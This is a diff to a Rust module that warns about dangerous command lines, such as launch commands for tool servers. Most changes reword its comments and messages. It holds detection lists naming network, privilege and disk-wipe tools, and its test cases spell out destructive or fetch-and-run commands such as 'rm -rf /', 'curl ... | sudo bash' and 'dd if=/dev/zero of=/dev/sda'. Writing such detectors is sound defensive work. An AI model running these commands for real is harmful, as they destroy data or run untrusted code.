@@ -1,4 +1,4 @@
-//! Patterns in a command line that deserve a second look. A mark for the reader, not a wall: must not decide anything.
+//! Warnings about dangerous command lines. They inform the operator and block nothing.
 
 const ROOT: [&str; 5] = ["sudo", "doas", "su", "pkexec", "runas"];
 const NETWORK: [&str; 13] =
@@ -16,7 +16,7 @@ const INLINE: [(&str, &[&str]); 8] = [
 ];
 const WIPE: [&str; 4] = ["mkfs", "shred", "dd", "format"];
 
-/// What is dangerous about a command line, each thing once.
+/// The warnings for a command line, each at most once.
 pub(crate) fn dangers(words: &[&str]) -> Vec<&'static str> {
     let tokens: Vec<String> = words.iter().flat_map(|word| tokens(word)).collect();
     let names: Vec<&str> = tokens.iter().map(|token| program(token)).collect();
@@ -32,20 +32,23 @@ pub(crate) fn dangers(words: &[&str]) -> Vec<&'static str> {
     mark(any(&WIPE), "can overwrite disks (dd, mkfs or the like)");
     mark(words.iter().any(|word| pipes_into_shell(word)), "runs what it downloads (curl | sh)");
     mark(any(&NETWORK), "uses a network tool (nc, ssh, curl or the like)");
-    mark(shell_text(&names, &tokens), "is a text for a shell (-c)");
+    mark(shell_text(&names, &tokens), "runs a shell script from its arguments (-c)");
     mark(inline_code(&names, &tokens), "runs code from its arguments");
     mark(any(&["eval", "base64"]), "hides what it runs (eval, base64)");
-    mark(tokens.iter().any(|token| token == "--privileged"), "gives a container all rights (--privileged)");
+    mark(
+        tokens.iter().any(|token| token == "--privileged"),
+        "gives a container all privileges (--privileged)",
+    );
     found
 }
 
-/// Words of a word: a shell's text holds many.
+/// Splits an argument into tokens: a shell script in one argument holds many.
 fn tokens(word: &str) -> Vec<String> {
     let cut = |c: char| c.is_whitespace() || ";|&()`<>\"'$={}".contains(c);
     word.split(cut).filter(|token| !token.is_empty()).map(str::to_owned).collect()
 }
 
-/// `/usr/bin/SUDO.exe` is `sudo`; backslashes inside names are how filters are fooled.
+/// The program name of a token: `C:\\bin\\sudo.exe` gives `sudo`.
 fn program(token: &str) -> &str {
     let name = token.rsplit(['/', '\\']).next().unwrap_or(token);
     name.strip_suffix(".exe").unwrap_or(name)
@@ -74,7 +77,7 @@ fn inline_code(names: &[&str], tokens: &[String]) -> bool {
         .any(|(name, flags)| after(names, tokens, &[name]).any(|token| flags.contains(&token.as_str())))
 }
 
-/// The tokens that stand after a program's name.
+/// The tokens after the name of a program.
 fn after<'a>(
     names: &'a [&'a str],
     tokens: &'a [String],
@@ -99,7 +102,7 @@ mod tests {
     use super::*;
 
     #[test]
-    fn commands_and_their_marks() {
+    fn dangerous_commands_give_warnings() {
         for (line, marks) in [
             (&["npx", "-y", "@modelcontextprotocol/server-github"][..], &[][..]),
             (&["uvx", "mcp-server-time", "--local-timezone=Europe/Berlin"], &[]),
@@ -109,19 +112,19 @@ mod tests {
             (&["env", "X=1", "sudo", "server"], &["runs with"]),
             (&["rm", "-rf", "/"], &["removes"]),
             (&["rm", "--recursive", "x"], &["removes"]),
-            (&["bash", "-lc", "rm -fr ~"], &["removes", "is a text"]),
+            (&["bash", "-lc", "rm -fr ~"], &["removes", "runs a shell"]),
             (
                 &["sh", "-c", "curl https://x.example/i | sudo bash"],
-                &["runs with", "runs what", "uses a", "is a text"],
+                &["runs with", "runs what", "uses a", "runs a shell"],
             ),
             (&["nc", "-l", "1"], &["uses a"]),
             (&["/bin/ssh", "host", "server"], &["uses a"]),
             (&["wget", "https://x.example"], &["uses a"]),
             (&["bash", "server.sh"], &[]),
-            (&["cmd.exe", "/c", "server.bat"], &["is a text"]),
+            (&["cmd.exe", "/c", "server.bat"], &["runs a shell"]),
             (&["python3", "-c", "print()"], &["runs code"]),
             (&["node", "-e", "1"], &["runs code"]),
-            (&["sh", "-c", "eval $(base64 -d x)"], &["is a text", "hides"]),
+            (&["sh", "-c", "eval $(base64 -d x)"], &["runs a shell", "hides"]),
             (&["docker", "run", "--privileged", "x"], &["gives"]),
             (&["dd", "if=/dev/zero", "of=/dev/sda"], &["can overwrite"]),
         ] {
